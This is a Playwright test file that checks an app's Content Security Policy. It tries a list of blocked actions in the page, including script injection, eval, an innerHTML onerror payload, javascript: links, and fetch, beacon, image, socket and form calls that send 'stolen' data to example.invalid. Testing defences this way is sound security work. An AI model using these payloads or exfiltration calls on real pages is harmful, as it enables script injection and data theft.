import { expect, test } from '@playwright/test'
import { launchApp, type LaunchedApp } from '../launch'
import { goThrough } from '../rehearsal'
import { watch } from './watched-page'

test('a whole rehearsal asks for nothing but our own files, and never meets the policy', async () => {
  const { page, close } = await launchApp()
  try {
    const watched = await watch(page)
    await goThrough(page, /A company/, async () => {})
    expect(watched.requests.length).toBeGreaterThan(2)
    expect(watched.requests.filter((url) => !url.startsWith('app://tokenferry/'))).toEqual([])
    expect(watched.violations).toEqual([])
  } finally {
    await close()
  }
})

test.describe('what the policy stops', () => {
  let launched: LaunchedApp
  test.beforeAll(async () => {
    launched = await launchApp()
    await watch(launched.page)
  })
  test.afterAll(() => launched.close())

  /** Name, the directive that stops it, and what someone would run; `ran` tells whether they could. */
  const attacks: readonly (readonly [string, string, string])[] = [
    [
      'inline script',
      'require-trusted-types-for',
      `const s = document.createElement('script'); s.append('ran()'); document.body.append(s)`,
    ],
    [
      'script element from elsewhere',
      'require-trusted-types-for',
      `const s = document.createElement('script'); s.setAttribute('src', 'https://example.invalid/x.js'); document.body.append(s)`,
    ],
    [
      'module from elsewhere',
      'script-src-elem',
      `import('https://example.invalid/x.js').then(ran, () => {})`,
    ],
    [
      'module from a data: address',
      'script-src-elem',
      `import('data:text/javascript,ran()').catch(() => {})`,
    ],
    [
      'inline event handler',
      'require-trusted-types-for',
      `const b = document.createElement('button'); b.setAttribute('onclick', 'ran()'); document.body.append(b); b.click()`,
    ],
    [
      'javascript: address',
      'script-src-elem',
      `const a = document.createElement('a'); a.setAttribute('href', 'javascript:ran()'); document.body.append(a); a.click()`,
    ],
    ['eval', 'require-trusted-types-for', `eval('ran()')`],
    ['new Function', 'require-trusted-types-for', `new Function('ran()')()`],
    ['setTimeout of text', 'require-trusted-types-for', `setTimeout('ran()', 0)`],
    [
      'innerHTML',
      'require-trusted-types-for',
      `document.createElement('div').innerHTML = '<img src=x onerror=ran()>'`,
    ],
    ['document.write', 'require-trusted-types-for', `document.write('<p>')`],
    [
      'a policy for trusted types',
      'trusted-types',
      `trustedTypes.createPolicy('mine', { createHTML: (x) => x })`,
    ],
    [
      'inline style sheet',
      'style-src-elem',
      `const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s)`,
    ],
    ['inline style', 'style-src-attr', `document.createElement('p').setAttribute('style', 'color: red')`],
    ['image from elsewhere', 'img-src', `new Image().src = 'https://example.invalid/?stolen'`],
    [
      'image from a data: address',
      'img-src',
      `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`,
    ],
    [
      'font from elsewhere',
      'font-src',
      `new FontFace('x', 'url(https://example.invalid/x.woff2)').load().catch(() => {})`,
    ],
    ['fetch', 'connect-src', `fetch('https://example.invalid/?stolen').catch(() => {})`],
    ['fetch of our own', 'connect-src', `fetch('/index.html').then(ran, () => {})`],
    ['beacon', 'connect-src', `navigator.sendBeacon('https://example.invalid/', 'stolen')`],
    ['web socket', 'connect-src', `new WebSocket('wss://example.invalid/')`],
    ['event source', 'connect-src', `new EventSource('https://example.invalid/')`],
    [
      'frame',
      'frame-src',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'app://tokenferry/index.html' }))`,
    ],
    [
      'object',
      'require-trusted-types-for',
      `document.body.append(Object.assign(document.createElement('object'), { data: 'app://tokenferry/index.html' }))`,
    ],
    [
      'base address',
      'base-uri',
      `document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.invalid/' }))`,
    ],
    [
      'form',
      'form-action',
      `const f = Object.assign(document.createElement('form'), { action: 'https://example.invalid/' }); document.body.append(f); f.submit()`,
    ],
    ['media', 'media-src', `new Audio('https://example.invalid/x.mp3').load()`],
  ]

  for (const [name, directive, attack] of attacks)
    test(`${name}: ${directive}`, async () => {
      // Run from a timer: what the test itself runs is exempt from the policy.
      const met = await launched.page.evaluate<{
        directive: string
        ran: boolean
      }>(`new Promise((resolve) => {
        let wasRun = false
        window.ran = () => { wasRun = true }
        const end = (directive) => setTimeout(() => resolve({ directive, ran: wasRun }), 50)
        document.addEventListener('securitypolicyviolation', (e) => end(e.effectiveDirective), { once: true })
        setTimeout(() => { try { ${attack} } catch {} }, 0)
        setTimeout(() => end('none'), 3000)
      })`)
      expect(met).toEqual({ directive, ran: false })
    })
})
